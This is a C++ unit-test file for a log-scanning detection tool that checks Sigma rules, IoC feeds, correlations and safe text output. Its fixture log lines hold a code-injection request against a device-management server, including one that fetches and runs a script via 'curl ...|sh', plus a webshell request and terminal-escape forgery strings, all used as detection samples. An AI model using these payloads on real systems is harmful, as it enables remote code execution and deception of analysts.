#include "detect/scan.h"

#include <gtest/gtest.h>
#include <lzma.h>
#include <unistd.h>
#include <zlib.h>

#include <algorithm>
#include <cctype>
#include <filesystem>
#include <fstream>
#include <nlohmann/json.hpp>
#include <set>
#include <sstream>
#include <string>
#include <vector>

#include "detect/log_file_source.h"

namespace rampart::detect {
namespace {

namespace fs = std::filesystem;
const std::string kBundledSigma = RAMPART_SOURCE_DIR "/rules/sigma";
const std::string kSigmaHqRules = RAMPART_SOURCE_DIR "/../shared/sigma";
constexpr std::string_view kFirefoxAgent =
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";

// Three device ids not found from one address within ten minutes: a correlation over a rule.
constexpr std::string_view kDeviceProbingRules = R"(title: Device id not found
id: 0d0d0d0d-0000-4000-8000-000000000001
name: device_404
logsource: {category: webserver}
detection:
  sel:
    cs-uri-stem|startswith: /api/v1/devices/
    sc-status: 404
  condition: sel
level: low
tags: [attack.t1087]
---
title: Device id probing
id: 0d0d0d0d-0000-4000-8000-000000000002
correlation:
  type: event_count
  rules: [device_404]
  group-by: [source.ip]
  timespan: 10m
  condition: {gte: 3}
level: high
tags: [attack.t1087]
)";

// The same probes, and an upper bound on them: one or two in ten minutes.
constexpr std::string_view kFewerThanThreeRules = R"(title: Device id not found
id: 0d0d0d0d-0000-4000-8000-000000000001
name: device_404
logsource: {category: webserver}
detection:
  sel:
    cs-uri-stem|startswith: /api/v1/devices/
    sc-status: 404
  condition: sel
level: low
---
title: One or two device 404s
id: 0d0d0d0d-0000-4000-8000-000000000003
correlation:
  type: event_count
  rules: [device_404]
  group-by: [source.ip]
  timespan: 10m
  condition: {lt: 3}
level: medium
)";

class ScanTest : public ::testing::Test {
 protected:
  void SetUp() override {
    dir_ = fs::temp_directory_path() /
           ("rampart_scan_test_" + std::to_string(getpid()) + "_" +
            ::testing::UnitTest::GetInstance()->current_test_info()->name());
    fs::create_directories(dir_);
  }
  void TearDown() override { fs::remove_all(dir_); }

  std::string Write(const std::string& name, const std::string& text) {
    std::string path = (dir_ / name).string();
    std::ofstream(path, std::ios::binary) << text;
    return path;
  }
  std::string WriteGz(const std::string& name, const std::string& text) {
    std::string path = (dir_ / name).string();
    gzFile f = gzopen(path.c_str(), "wb");
    EXPECT_NE(f, nullptr);
    gzwrite(f, text.data(), static_cast<unsigned>(text.size()));
    gzclose(f);
    return path;
  }

  int Run(ScanOptions opt) {
    out_.str("");
    err_.str("");
    opt.out = &out_;
    opt.err = &err_;
    opt.now_millis = 1769760000000;
    return RunScanCommand(opt);
  }
  std::vector<nlohmann::json> Alerts() const {
    std::vector<nlohmann::json> v;
    std::istringstream in(out_.str());
    std::string line;
    while (std::getline(in, line)) {
      v.push_back(nlohmann::json::parse(line));
      // Written directly, not by nlohmann: the bytes must still be its dump (sorted keys, its
      // escaping).
      EXPECT_EQ(line, v.back().dump(-1, ' ', false, nlohmann::json::error_handler_t::replace));
    }
    return v;
  }

  static std::string Log() {
    std::string t = " - - [30/Jan/2026:09:15:00 +0100] ";
    std::string ua = " \"-\" \"" + std::string(kFirefoxAgent) + "\"\n";
    return "mdm.example.eu:443 10.1.1.1" + t + "\"GET /mifs/user/login.jsp HTTP/1.1\" 200 4312" +
           ua + "mdm.example.eu:443 203.0.113.50" + t +
           "\"GET /mifs/c/appstore/fob/3/5/sha256:kid=1,st=theValue%20%20,et=1337133713,h=gPath"
           "%5B%60id%60%5D/a.ipa HTTP/1.1\" 404 196" +
           ua + "mdm.example.eu:443 10.1.1.2" + t +
           "\"GET /mifs/css/style.css HTTP/1.1\" 200 1000" + ua +
           "mdm.example.eu:443 198.51.100.7" + t + "\"GET /mifs/403.jsp HTTP/1.1\" 200 12" + ua;
  }

  fs::path dir_;
  std::ostringstream out_, err_;
};

TEST_F(ScanTest, FlagsExploitLinesWithLineNumbers) {
  ScanOptions opt;
  opt.default_rules_dir = kBundledSigma;
  opt.log_files = {Write("access.log", Log())};
  ASSERT_EQ(Run(opt), 0) << err_.str();
  auto alerts = Alerts();
  ASSERT_EQ(alerts.size(), 3u) << out_.str();
  // Line 2: the fob injection (and the 404 rule); line 4: the webshell.
  EXPECT_EQ(alerts[0]["line"], 2);
  EXPECT_EQ(alerts[1]["line"], 2);
  EXPECT_EQ(alerts[2]["line"], 4);
  EXPECT_EQ(alerts[2]["source_ip"], "198.51.100.7");
  EXPECT_EQ(alerts[2]["severity"], "critical");
  EXPECT_EQ(alerts[2]["file"], opt.log_files[0]);
  EXPECT_NE(alerts[2]["title"].get<std::string>().find("403.jsp"), std::string::npos);
  EXPECT_EQ(alerts[2]["attack"][0], "T1505.003");
  for (const auto& a : alerts) EXPECT_FALSE(a["rule"].get<std::string>().empty());
  EXPECT_NE(err_.str().find("format epmm"), std::string::npos) << err_.str();
  EXPECT_NE(err_.str().find("4 lines in"), std::string::npos) << err_.str();
  EXPECT_NE(err_.str().find("lines/s"), std::string::npos);
}

// A plain file is read as it is, whatever its bytes (a first byte that is gzip's included), in
// reads of any size; a gzip file is decompressed; gzip's magic before anything else is a read
// error, not text.
TEST_F(ScanTest, LogFileSourceReadsPlainFilesAsTheyAreAndGzipDecompressed) {
  std::string binary = "\x1f" + std::string("not gzip\n") + std::string(3, '\0') + "\xff\r\n";
  std::string text;
  for (int i = 0; i < 5000; ++i) text += "line " + std::to_string(i) + "\n";
  auto read_all = [](const std::string& path, size_t chunk, std::string* kind) {
    auto source = LogFileSource::Open(path);
    EXPECT_TRUE(source.ok()) << path;
    if (!source.ok()) return std::string("(not opened)");
    std::string got, buf(chunk, '\0');
    for (int n; (n = (*source)->Read(buf.data(), buf.size())) > 0;) got.append(buf.data(), n);
    EXPECT_FALSE((*source)->EndedMidStream());
    EXPECT_EQ((*source)->raw_offset(), (*source)->size());
    *kind = std::string((*source)->kind());
    return got;
  };
  std::string kind;
  for (size_t chunk : {size_t{1}, size_t{7}, size_t{65536}}) {
    EXPECT_EQ(read_all(Write("b.log", binary), chunk, &kind), binary) << chunk;
    EXPECT_EQ(kind, "plain");
    EXPECT_EQ(read_all(Write("t.log", text), chunk, &kind), text) << chunk;
    EXPECT_EQ(kind, "plain");
    EXPECT_EQ(read_all(WriteGz("t.log.gz", text), chunk, &kind), text) << chunk;
    EXPECT_EQ(kind, "gzip");
  }
  EXPECT_EQ(read_all(Write("empty.log", ""), 16, &kind), "");
  EXPECT_EQ(kind, "plain");

  auto fake = LogFileSource::Open(Write("fake.log.gz", "\x1f\x8bnot a gzip stream\n"));
  ASSERT_TRUE(fake.ok());
  char buf[64];
  int n;
  while ((n = (*fake)->Read(buf, sizeof(buf))) > 0) {
  }
  EXPECT_EQ(n, -1);
  EXPECT_EQ((*fake)->kind(), "gzip");
}

TEST_F(ScanTest, GzipAndIocsAndSigmaHq) {
  ScanOptions opt;
  opt.rule_dirs = {kBundledSigma, kSigmaHqRules};
  // The feed's severity and techniques are the IoC alert's.
  opt.ioc_files = {Write("iocs.csv",
                         "type,value,source,expiry,severity,attack\n"
                         "ip,198.51.100.0/24,,,critical,T1190;T1059.004\n")};
  opt.log_files = {WriteGz("access.log.gz", Log())};
  ASSERT_EQ(Run(opt), 0) << err_.str();
  auto alerts = Alerts();
  int ioc = 0;
  for (const auto& a : alerts) {
    EXPECT_NE(a["line"], 1) << a.dump();
    EXPECT_NE(a["line"], 3) << a.dump();
    if (a["rule"] == "ioc") {
      ++ioc;
      EXPECT_EQ(a["line"], 4);
      EXPECT_EQ(a["ioc"]["value"], "198.51.100.0/24");
      EXPECT_EQ(a["ioc"]["source"], "iocs.csv");
      EXPECT_EQ(a["severity"], "critical");
      EXPECT_EQ(a["attack"], nlohmann::json::parse(R"(["T1190","T1059.004"])"));
    }
  }
  EXPECT_EQ(ioc, 1);
  EXPECT_GE(alerts.size(), 4u);
}

// The address an exploit fetches its second stage from is an indicator on the line that
// carries the exploit, read from its decoded payload; a line no rule flags is not read so.
TEST_F(ScanTest, IndicatorsInsideAFlaggedPayload) {
  ScanOptions opt;
  opt.rule_dirs = {kBundledSigma};
  opt.ioc_files = {
      Write("iocs.csv", "type,value,source\nip,198.51.100.9,cert-eu\ndomain,evil.example,misp\n")};
  const std::string prefix = "mdm.example.eu:443 203.0.113.5 - - [30/Jan/2026:09:15:0";
  opt.log_files = {
      Write("access.log",
            prefix +
                "0 +0000] \"GET /mifs/c/appstore/fob/3/5/sha256:kid=1,st=theValue%20%20,et="
                "1337133713,h=gPath%5B%60curl%20http%3A%2F%2F198.51.100.9%2Fx%7Csh%60%5D/"
                "e2327851-1e09-4463-9b5a-b524bc71fc07.ipa HTTP/1.1\" 404 0 \"-\" \"curl/8.4\"\n" +
                prefix +
                "1 +0000] \"GET /mifs/user/profile?next=198.51.100.9&dns=evil.example "
                "HTTP/1.1\" 200 10 \"-\" \"Mozilla/5.0\"\n")};
  ASSERT_EQ(Run(opt), 0) << err_.str();
  std::vector<std::string> iocs;
  for (const auto& a : Alerts()) {
    if (a["rule"] != "ioc") continue;
    EXPECT_EQ(a["line"], 1) << a.dump();
    EXPECT_EQ(a["ioc"]["field"], "url.original");
    iocs.push_back(a["ioc"]["value"]);
  }
  EXPECT_EQ(iocs, (std::vector<std::string>{"198.51.100.9"}));
}

TEST_F(ScanTest, GarbageAndHugeLinesAreCountedNotFatal) {
  std::string log = "\x01\x02 binary garbage\n" + std::string(1100000, 'x') + "\n" +
                    std::string(3000000, 'y') + "\n" + Log();
  ScanOptions opt;
  opt.default_rules_dir = kBundledSigma;
  opt.log_format = "epmm";
  opt.output_format = "text";
  opt.log_files = {Write("mixed.log", log)};
  ASSERT_EQ(Run(opt), 0) << err_.str();
  EXPECT_NE(err_.str().find("3 parse errors"), std::string::npos) << err_.str();
  EXPECT_NE(err_.str().find(":2: line longer than"), std::string::npos) << err_.str();
  EXPECT_NE(err_.str().find(":3: line longer than"), std::string::npos) << err_.str();
  // Text alerts carry file:line with the original numbering.
  EXPECT_NE(out_.str().find("mixed.log:7 critical"), std::string::npos) << out_.str();
}

// A hostile line must not move the analyst's cursor, retitle the terminal or forge a line.
TEST_F(ScanTest, TextOutputEscapesControlBytesFromTheLog) {
  std::string log = R"({"source.ip":"203.0.113.5\u001b]0;PWNED\u0007","url.original":)"
                    R"("/mifs/403.jsp?x\n\u001b[1A\u001b[2Kall clear: 0 alerts\\"})"
                    "\n";
  ScanOptions opt;
  opt.default_rules_dir = kBundledSigma;
  opt.output_format = "text";
  opt.log_files = {Write("hostile.jsonl", log)};
  ASSERT_EQ(Run(opt), 0) << err_.str();
  std::string out = out_.str();
  ASSERT_FALSE(out.empty());
  EXPECT_EQ(out.find('\x1b'), std::string::npos) << out;
  EXPECT_EQ(out.find('\a'), std::string::npos) << out;
  EXPECT_EQ(std::count(out.begin(), out.end(), '\n'), 1) << out;
  EXPECT_NE(out.find("src=203.0.113.5\\x1b]0;PWNED\\x07 "), std::string::npos) << out;
  EXPECT_NE(out.find("?x\\x0a\\x1b[1A"), std::string::npos) << out;
  EXPECT_NE(out.find("alerts\\\\"), std::string::npos) << out;
}

// Matching threads change nothing but speed: the same alerts in the same order, the same
// counts, across batch boundaries and several files (one of them unreadable).
TEST_F(ScanTest, ThreadsGiveTheSameOutputInTheSameOrder) {
  std::string big;
  for (int i = 0; i < 3000; ++i) big += Log();  // 12,000 lines: three batches and a part
  std::string log1 = Write("a.log", big);
  std::string log2 = WriteGz("b.log.gz", Log() + "not a log line\n" + Log());
  ScanOptions opt;
  opt.rule_dirs = {kBundledSigma};
  opt.ioc_files = {Write("iocs.csv", "type,value\nip,10.1.1.2\n")};
  opt.log_files = {log1, (dir_ / "missing.log").string(), log2};
  opt.threads = 1;
  ASSERT_EQ(Run(opt), 1) << err_.str();  // the missing file
  std::string serial = out_.str();
  std::string serial_err = err_.str();
  auto alerts = Alerts();
  // Per four lines: fob injection and its 404 (line 2), webshell (line 4), the IoC (line 3).
  ASSERT_EQ(alerts.size(), 4u * 3000 + 4u * 2) << serial_err;
  EXPECT_EQ(alerts.back()["file"], log2);
  EXPECT_EQ(alerts.back()["line"], 9);
  EXPECT_NE(serial_err.find("1 of 9 lines not in epmm format"), std::string::npos) << serial_err;
  for (unsigned threads : {2u, 5u}) {
    opt.threads = threads;
    ASSERT_EQ(Run(opt), 1) << err_.str();
    EXPECT_EQ(out_.str(), serial) << threads << " threads";
    EXPECT_NE(err_.str().find("12009 lines in"), std::string::npos) << err_.str();
    EXPECT_NE(err_.str().find("1 parse errors, 12008 alerts"), std::string::npos) << err_.str();
    EXPECT_NE(err_.str().find(std::to_string(threads) + " matching threads"), std::string::npos);
    EXPECT_NE(err_.str().find("1 of 9 lines not in epmm format"), std::string::npos);
  }
}

// A correlation fires on the line that completes it, across batches and files, whatever the
// number of threads; the rule that only feeds it prints nothing of its own.
TEST_F(ScanTest, CorrelationsFireOnTheLineThatCompletesThem) {
  fs::create_directories(dir_ / "rules");
  Write("rules/probes.yml", std::string(kDeviceProbingRules));
  auto line = [](const std::string& ip, const std::string& path, int status) {
    return ip + " - - [30/Jan/2026:09:15:00 +0100] \"GET " + path + " HTTP/1.1\" " +
           std::to_string(status) + " 10 \"-\" \"curl/8\"\n";
  };
  std::string a;
  for (int n = 1; n <= 5000; ++n) {
    if (n == 10 || n == 20) {
      a += line("192.0.2.1", "/api/v1/devices/dev_" + std::to_string(n), 404);
    } else if (n == 100 || n == 4500 || n == 4900) {
      a += line("192.0.2.2", "/api/v1/devices/dev_" + std::to_string(n), 404);
    } else {
      a += line("10.0.0." + std::to_string(n % 200), "/api/v1/devices/dev_1", 200);
    }
  }
  ScanOptions opt;
  opt.rule_dirs = {(dir_ / "rules").string()};
  opt.log_files = {Write("a.log", a),
                   Write("c.log", line("192.0.2.1", "/api/v1/devices/dev_x", 404))};
  std::string serial;
  for (unsigned threads : {1u, 3u}) {
    opt.threads = threads;
    ASSERT_EQ(Run(opt), 0) << err_.str();
    auto alerts = Alerts();
    ASSERT_EQ(alerts.size(), 2u) << out_.str();
    EXPECT_EQ(alerts[0]["file"], opt.log_files[0]);
    EXPECT_EQ(alerts[0]["line"], 4900) << "the third probe of 192.0.2.2, two batches later";
    EXPECT_EQ(alerts[0]["rule"], "0d0d0d0d-0000-4000-8000-000000000002");
    EXPECT_EQ(alerts[0]["severity"], "high");
    EXPECT_EQ(alerts[0]["correlation"]["entity"], "source.ip=192.0.2.2");
    EXPECT_EQ(alerts[0]["correlation"]["value"], 3);
    EXPECT_EQ(alerts[0]["correlation"]["type"], "event_count");
    EXPECT_EQ(alerts[0]["correlation"]["timespan_seconds"], 600);
    EXPECT_EQ(alerts[1]["file"], opt.log_files[1]) << "192.0.2.1's third probe is in the next file";
    EXPECT_EQ(alerts[1]["line"], 1);
    EXPECT_EQ(alerts[1]["correlation"]["entity"], "source.ip=192.0.2.1");
    EXPECT_NE(err_.str().find("2 alerts"), std::string::npos) << err_.str();
    EXPECT_NE(err_.str().find("2\thigh\tDevice id probing (correlation)"), std::string::npos)
        << err_.str();
    if (threads == 1) serial = out_.str();
    EXPECT_EQ(out_.str(), serial) << threads << " threads";
  }
}

// A condition with an upper bound is decided when a window ends: at a key's line a timespan
// after its window began, at a batch whose newest line is a timespan past the key's last, or at
// the end of the input. The alert is written at the last line the window counted.
TEST_F(ScanTest, FewerThanAlertsAreWrittenAtTheLastLineTheirWindowCounted) {
  fs::create_directories(dir_ / "rules");
  Write("rules/few.yml", std::string(kFewerThanThreeRules));
  auto line = [](const std::string& ip, int minute, int status) {
    char stamp[64];
    std::snprintf(stamp, sizeof(stamp), "[30/Jan/2026:%02d:%02d:00 +0000]", 9 + minute / 60,
                  minute % 60);
    return ip + " - - " + stamp + " \"GET /api/v1/devices/d" + std::to_string(minute) +
           " HTTP/1.1\" " + std::to_string(status) + " 10 \"-\" \"curl/8\"\n";
  };
  std::string log;
  log += line("192.0.2.1", 0, 404);   // line 1: 192.0.2.1's window, 09:00 to 09:10
  log += line("192.0.2.2", 0, 404);   // 2: 192.0.2.2, three in its window
  log += line("192.0.2.1", 1, 404);   // 3: the last 192.0.2.1 counts there
  log += line("192.0.2.2", 1, 404);   // 4
  log += line("192.0.2.2", 2, 404);   // 5
  log += line("192.0.2.1", 12, 404);  // 6: a timespan on: decides the window of lines 1 and 3
  log += line("10.0.0.9", 12, 200);   // 7
  log += line("192.0.2.3", 30, 404);  // 8: one, decided when the input ends
  ScanOptions opt;
  opt.rule_dirs = {(dir_ / "rules").string()};
  opt.log_files = {Write("few.log", log)};
  std::string serial;
  for (unsigned threads : {1u, 2u}) {
    opt.threads = threads;
    ASSERT_EQ(Run(opt), 0) << err_.str();
    auto alerts = Alerts();
    ASSERT_EQ(alerts.size(), 3u) << out_.str();
    EXPECT_EQ(alerts[0]["line"], 3) << out_.str();
    EXPECT_EQ(alerts[0]["source_ip"], "192.0.2.1");
    EXPECT_EQ(alerts[0]["rule"], "0d0d0d0d-0000-4000-8000-000000000003");
    EXPECT_EQ(alerts[0]["severity"], "medium");
    EXPECT_EQ(alerts[0]["correlation"]["value"], 2);
    EXPECT_EQ(alerts[0]["correlation"]["entity"], "source.ip=192.0.2.1");
    EXPECT_EQ(alerts[0]["correlation"]["window_start"], "2026-01-30T09:00:00Z");
    EXPECT_EQ(alerts[0]["url"], "/api/v1/devices/d1");
    EXPECT_EQ(alerts[0]["method"], "GET");
    EXPECT_EQ(alerts[0]["status"], 404);
    EXPECT_EQ(alerts[0]["timestamp"], "2026-01-30T09:01:00Z");
    // 192.0.2.2's three are not fewer than three. The window of line 6 is decided after the
    // batch, whose newest line (09:30) is a timespan past it; line 8's when the input ends.
    EXPECT_EQ(alerts[1]["line"], 6);
    EXPECT_EQ(alerts[1]["correlation"]["value"], 1);
    EXPECT_EQ(alerts[1]["correlation"]["window_start"], "2026-01-30T09:12:00Z");
    EXPECT_EQ(alerts[2]["line"], 8);
    EXPECT_EQ(alerts[2]["source_ip"], "192.0.2.3");
    EXPECT_NE(err_.str().find("3\tmedium\tOne or two device 404s (correlation)"), std::string::npos)
        << err_.str();
    if (threads == 1) serial = out_.str();
    EXPECT_EQ(out_.str(), serial) << threads << " threads";
  }
}

// Across batches and files, with a second file that goes back in time: the windows are decided
// at the same places whatever the number of threads.
TEST_F(ScanTest, FewerThanWindowsAcrossBatchesAndAnOlderFile) {
  fs::create_directories(dir_ / "rules");
  Write("rules/few.yml", std::string(kFewerThanThreeRules));
  auto line = [](const std::string& ip, int second, int status) {
    char stamp[64];
    std::snprintf(stamp, sizeof(stamp), "[30/Jan/2026:%02d:%02d:%02d +0000]", second / 3600,
                  second / 60 % 60, second % 60);
    return ip + " - - " + stamp + " \"GET /api/v1/devices/d HTTP/1.1\" " + std::to_string(status) +
           " 10 \"-\" \"curl/8\"\n";
  };
  // new.log, 10:00 to 11:23, one line a second: 192.0.2.1 probes at lines 1 and 2, 192.0.2.2 at
  // line 3000 (batch 1) and 192.0.2.3 at line 5000 (batch 2), which is a timespan past 192.0.2.1.
  std::string newer;
  for (int n = 1; n <= 5000; ++n) {
    const int at = 10 * 3600 + n;
    if (n <= 2) {
      newer += line("192.0.2.1", at, 404);
    } else if (n == 3000) {
      newer += line("192.0.2.2", at, 404);
    } else if (n == 5000) {
      newer += line("192.0.2.3", at, 404);
    } else {
      newer += line("10.0.0." + std::to_string(n % 200), at, 200);
    }
  }
  // old.log, 09:00: 192.0.2.2 three times (not fewer than three), 192.0.2.4 once.
  std::string older = line("192.0.2.2", 9 * 3600, 404) + line("192.0.2.2", 9 * 3600 + 1, 404) +
                      line("192.0.2.4", 9 * 3600 + 2, 404) + line("192.0.2.2", 9 * 3600 + 3, 404);
  ScanOptions opt;
  opt.rule_dirs = {(dir_ / "rules").string()};
  opt.log_files = {Write("new.log", newer), Write("old.log", older)};
  std::string serial;
  for (unsigned threads : {1u, 3u}) {
    opt.threads = threads;
    ASSERT_EQ(Run(opt), 0) << err_.str();
    auto alerts = Alerts();
    std::vector<std::string> where;
    for (const auto& a : alerts) {
      where.push_back(fs::path(a["file"].get<std::string>()).filename().string() + ":" +
                      std::to_string(a["line"].get<int>()) + " " +
                      a["source_ip"].get<std::string>() + " " +
                      std::to_string(a["correlation"]["value"].get<int>()));
    }
    // 192.0.2.1's and 192.0.2.2's windows after batch 2 (idle by line 5000's time, a timespan
    // past both); at the end, the windows still open in the order they were last fed: 192.0.2.3's,
    // and 192.0.2.4's (old.log's three lines of 192.0.2.2 are a window of their own).
    EXPECT_EQ(where,
              (std::vector<std::string>{"new.log:2 192.0.2.1 2", "new.log:3000 192.0.2.2 1",
                                        "new.log:5000 192.0.2.3 1", "old.log:3 192.0.2.4 1"}))
        << out_.str();
    if (threads == 1) serial = out_.str();
    EXPECT_EQ(out_.str(), serial) << threads << " threads";
  }
}

// An upper bound fed by a chained correlation is written at the line that completed the inner
// hit it counted last.
TEST_F(ScanTest, AnUpperBoundFedByAChainIsWrittenAtTheInnerHitsLine) {
  fs::create_directories(dir_ / "rules");
  Write("rules/burst.yml", R"(title: Device id not found
id: 0d0d0d0d-0000-4000-8000-000000000001
name: device_404
logsource: {category: webserver}
detection:
  sel:
    cs-uri-stem|startswith: /api/v1/devices/
    sc-status: 404
  condition: sel
---
title: Burst of device 404s
id: 0d0d0d0d-0000-4000-8000-000000000004
name: burst_404
correlation:
  type: event_count
  rules: [device_404]
  group-by: [source.ip]
  timespan: 1m
  condition: {gte: 2}
---
title: A single burst in an hour
id: 0d0d0d0d-0000-4000-8000-000000000005
correlation:
  type: event_count
  rules: [burst_404]
  group-by: [source.ip]
  timespan: 1h
  condition: {eq: 1}
level: medium
)");
  std::string log;
  for (const char* ip : {"192.0.2.1", "10.0.0.1", "192.0.2.1"}) {
    log += std::string(ip) +
           " - - [30/Jan/2026:09:00:00 +0000] \"GET /api/v1/devices/x HTTP/1.1\" 404 10 \"-\" "
           "\"curl/8\"\n";
  }
  ScanOptions opt;
  opt.rule_dirs = {(dir_ / "rules").string()};
  opt.log_files = {Write("burst.log", log)};
  ASSERT_EQ(Run(opt), 0) << err_.str();
  auto alerts = Alerts();
  ASSERT_EQ(alerts.size(), 1u) << out_.str();
  EXPECT_EQ(alerts[0]["rule"], "0d0d0d0d-0000-4000-8000-000000000005");
  EXPECT_EQ(alerts[0]["line"], 3);
  EXPECT_EQ(alerts[0]["source_ip"], "192.0.2.1");
  EXPECT_EQ(alerts[0]["correlation"]["value"], 1);
}

// Behind a load balancer (10.0.0.2) nginx logs the balancer as every client, and the client in
// "$http_x_forwarded_for" (its `main` format). With --trusted-proxy, alerts and correlations
// name the client the balancer appended, never an address the client wrote itself; lines from
// other peers keep their own address whatever header they carry.
TEST_F(ScanTest, TrustedProxyLinesAreTheForwardedClients) {
  fs::create_directories(dir_ / "rules");
  Write("rules/probes.yml", std::string(kDeviceProbingRules));
  auto line = [](const std::string& peer, const std::string& target, int status,
                 const std::string& forwarded) {
    return peer + " - - [30/Jan/2026:09:15:00 +0100] \"GET " + target + " HTTP/1.1\" " +
           std::to_string(status) + " 10 \"-\" \"curl/8\" \"" + forwarded + "\"\n";
  };
  const std::string fob =
      "/mifs/c/appstore/fob/3/5/sha256:kid=1,st=theValue%20%20,et=1337133713,h=gPath"
      "%5B%60id%60%5D/a.ipa";
  std::string log;
  // Lines 1-5: probes through the balancer, three from 203.0.113.7 (which claims to be
  // 198.51.100.1 and another balancer), two from 192.0.2.8.
  log += line("10.0.0.2", "/api/v1/devices/dev_1", 404, "198.51.100.1, 10.0.0.3, 203.0.113.7");
  log += line("10.0.0.2", "/api/v1/devices/dev_2", 404, "192.0.2.8");
  log += line("10.0.0.2", "/api/v1/devices/dev_3", 404, "203.0.113.7");
  log += line("10.0.0.2", "/api/v1/devices/dev_4", 404, "192.0.2.8");
  log += line("10.0.0.2", "/api/v1/devices/dev_5", 404, "zzz, [2001:db8::7]:51000");
  // Line 6: the EPMM exploit through the balancer; line 7: a direct peer naming another client.
  log += line("10.0.0.2", fob, 404, "203.0.113.7");
  log += line("192.0.2.99", fob, 404, "203.0.113.66");
  // Line 8: the balancer's own health check, which names no client.
  log += line("10.0.0.2", "/api/v1/devices/dev_9", 404, "-");
  ScanOptions opt;
  opt.rule_dirs = {(dir_ / "rules").string(), kBundledSigma};
  opt.log_files = {Write("access.log", log)};

  auto source_ips = [&](const std::string& rule) {
    std::vector<std::string> ips;
    for (const auto& a : Alerts()) {
      if (a["rule"] == rule)
        ips.push_back(a["line"].dump() + " " + a["source_ip"].get<std::string>());
    }
    return ips;
  };
  const std::string probing = "0d0d0d0d-0000-4000-8000-000000000002";

  // Without the proxy trusted, every line through it is the balancer's: its probes add up.
  ASSERT_EQ(Run(opt), 0) << err_.str();
  EXPECT_EQ(source_ips(probing), (std::vector<std::string>{"3 10.0.0.2", "8 10.0.0.2"}));

  opt.trusted_proxies = {"10.0.0.0/29"};
  ASSERT_EQ(Run(opt), 0) << err_.str();
  EXPECT_EQ(source_ips(probing), std::vector<std::string>{})
      << "two probes each from 203.0.113.7 and 192.0.2.8, one each from 2001:db8::7 and the "
         "balancer's health check";
  EXPECT_NE(err_.str().find("7 lines from trusted proxies, 6 attributed to the client they "
                            "forwarded, 1 naming no client (left as the proxy's)"),
            std::string::npos)
      << err_.str();
  std::vector<std::string> exploit;
  for (const auto& a : Alerts()) {
    if (a["title"].get<std::string>().find("Code Injection") != std::string::npos) {
      exploit.push_back(a["line"].dump() + " " + a["source_ip"].get<std::string>());
    }
  }
  EXPECT_EQ(exploit, (std::vector<std::string>{"6 203.0.113.7", "7 192.0.2.99"})) << out_.str();

  // One more probe from 203.0.113.7 through the balancer makes its third.
  opt.log_files.push_back(
      Write("more.log", line("10.0.0.2", "/api/v1/devices/dev_6", 404, "10.0.0.4, 203.0.113.7")));
  ASSERT_EQ(Run(opt), 0) << err_.str();
  std::vector<std::string> fired;
  for (const auto& a : Alerts()) {
    if (a["rule"] == probing) fired.push_back(a["correlation"]["entity"].get<std::string>());
  }
  EXPECT_EQ(fired, std::vector<std::string>{"source.ip=203.0.113.7"});

  for (std::string bad : {"10.0.0.0/7", "0.0.0.0/0", "balancer", "::/80"}) {
    opt.trusted_proxies = {bad};
    EXPECT_EQ(Run(opt), 2) << bad;
    EXPECT_NE(err_.str().find("--trusted-proxy '" + bad + "'"), std::string::npos) << err_.str();
    EXPECT_TRUE(out_.str().empty());
  }
}

// A front end whose log_format puts $request_time before the forwarded-for header: without the
// layout, the header is not found and every line is the balancer's; declared, the exploit is
// the client's. Lines in another layout are counted, not guessed at.
TEST_F(ScanTest, ADeclaredLayoutReadsTheForwardedClientWhereTheServerLogsIt) {
  auto line = [](const std::string& peer, const std::string& target, const std::string& xff) {
    return peer + " - - [30/Jan/2026:09:15:00 +0100] \"GET " + target +
           " HTTP/1.1\" 404 10 \"-\" \"curl/8\" 0.004 \"" + xff + "\"\n";
  };
  const std::string fob =
      "/mifs/c/appstore/fob/3/5/sha256:kid=1,st=theValue%20%20,et=1337133713,h=gPath"
      "%5B%60id%60%5D/a.ipa";
  const std::string log = line("10.0.0.2", fob, "198.51.100.1, 203.0.113.7") +
                          line("10.0.0.2", "/mifs/login.jsp", "192.0.2.8") +
                          "10.0.0.2 - - [30/Jan/2026:09:15:01 +0100] \"GET " + fob +
                          " HTTP/1.1\" 404 10 \"-\" \"curl/8\" \"192.0.2.9\"\n";
  ScanOptions opt;
  opt.rule_dirs = {kBundledSigma};
  opt.log_files = {Write("access.log", log)};
  opt.trusted_proxies = {"10.0.0.0/29"};
  auto exploit_sources = [&] {
    std::vector<std::string> v;
    for (const auto& a : Alerts()) {
      if (a["title"].get<std::string>().find("Code Injection") != std::string::npos) {
        v.push_back(a["line"].dump() + " " + a["source_ip"].get<std::string>());
      }
    }
    return v;
  };

  ASSERT_EQ(Run(opt), 0) << err_.str();
  EXPECT_EQ(exploit_sources(), (std::vector<std::string>{"1 10.0.0.2", "3 192.0.2.9"}))
      << "recognised as combined, the third line's header is read and the first's is not";

  opt.log_format =
      R"(nginx:$remote_addr - $remote_user [$time_local] "$request" $status $body_bytes_sent )"
      R"("$http_referer" "$http_user_agent" $request_time "$http_x_forwarded_for")";
  ASSERT_EQ(Run(opt), 0) << err_.str();
  EXPECT_EQ(exploit_sources(), std::vector<std::string>{"1 203.0.113.7"});
  EXPECT_NE(err_.str().find("2 lines from trusted proxies, 2 attributed to the client they "
                            "forwarded"),
            std::string::npos)
      << err_.str();
  EXPECT_NE(err_.str().find("1 of 3 lines not in the --log-format layout (first at line 3)"),
            std::string::npos)
      << err_.str();

  for (const auto& [format, why] : std::vector<std::pair<std::string, std::string>>{
           {"nginx:$remote_addr$status", "--log-format: log format, offset 12: $status follows"},
           {"apache:%h %{%d/%m/%Y %Z}t", "a zone's name (%Z) without its offset"},
           {"w3c", "unknown log format 'w3c'"}}) {
    opt.log_format = format;
    EXPECT_EQ(Run(opt), 2) << format;
    EXPECT_NE(err_.str().find(why), std::string::npos) << err_.str();
    EXPECT_TRUE(out_.str().empty());
  }
}

// File-integrity exports in JSON lines name files by MD5 and SHA-1 as often as by SHA-256:
// indicators of each match, and Sigma rules may test them (fields past the 32nd slot).
TEST_F(ScanTest, Md5AndSha1DigestsInJsonLogs) {
  const std::string md5 = "5f6cb87784f19891d763dfebd07a3f95";
  const std::string sha1 = "5191aca215d011bb7d55b1b870b6a41259c53215";
  fs::create_directories(dir_ / "rules");
  Write("rules/digest.yml", R"(title: Known webshell by SHA-1
id: 0d0d0d0d-0000-4000-8000-000000000003
logsource: {product: rampart}
detection:
  sel:
    file.hash.sha1|startswith: 5191aca2
    file.extension: jsp
  condition: sel
level: critical
tags: [attack.t1505.003]
)");
  std::string log =
